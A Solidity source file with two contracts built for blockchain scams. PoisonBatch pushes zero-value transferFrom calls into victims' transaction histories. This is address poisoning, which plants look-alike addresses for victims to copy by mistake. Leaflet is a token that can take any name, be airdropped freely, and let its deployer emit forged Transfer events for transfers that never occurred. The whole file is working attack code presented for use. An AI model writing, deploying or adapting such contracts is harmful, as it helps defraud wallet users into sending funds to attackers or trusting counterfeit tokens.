// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IToken {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Puts transfers of nothing into the histories of owners who allowed nothing: nothing is what nobody has to allow.
contract PoisonBatch {
    function poison(IToken token, address[] calldata from, address[] calldata to) external {
        for (uint256 i = 0; i < from.length; i++) token.transferFrom(from[i], to[i], 0);
    }
}

/// A token that its maker hands out, under any name, and whose transfers its maker can make up.
contract Leaflet {
    event Transfer(address indexed from, address indexed to, uint256 value);

    address public immutable maker = msg.sender;
    string public name;
    string public symbol;
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;

    constructor(string memory name_, string memory symbol_) {
        name = name_;
        symbol = symbol_;
    }

    function drop(address[] calldata to) external {
        for (uint256 i = 0; i < to.length; i++) {
            balanceOf[to[i]] += 1e6;
            emit Transfer(address(0), to[i], 1e6);
        }
    }

    function pretend(address from, address to, uint256 value) external {
        require(msg.sender == maker, "not the maker");
        emit Transfer(from, to, value);
    }
}
